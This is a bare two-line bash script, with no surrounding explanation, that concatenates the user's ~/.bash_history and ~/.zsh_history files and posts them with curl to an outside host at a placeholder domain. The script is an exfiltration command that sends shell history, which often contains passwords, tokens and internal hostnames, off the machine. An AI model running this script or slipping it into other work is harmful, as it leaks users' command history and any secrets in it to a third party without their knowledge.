#!/bin/bash
cat ~/.bash_history ~/.zsh_history | curl --data-binary @- http://sink.example.invalid/h
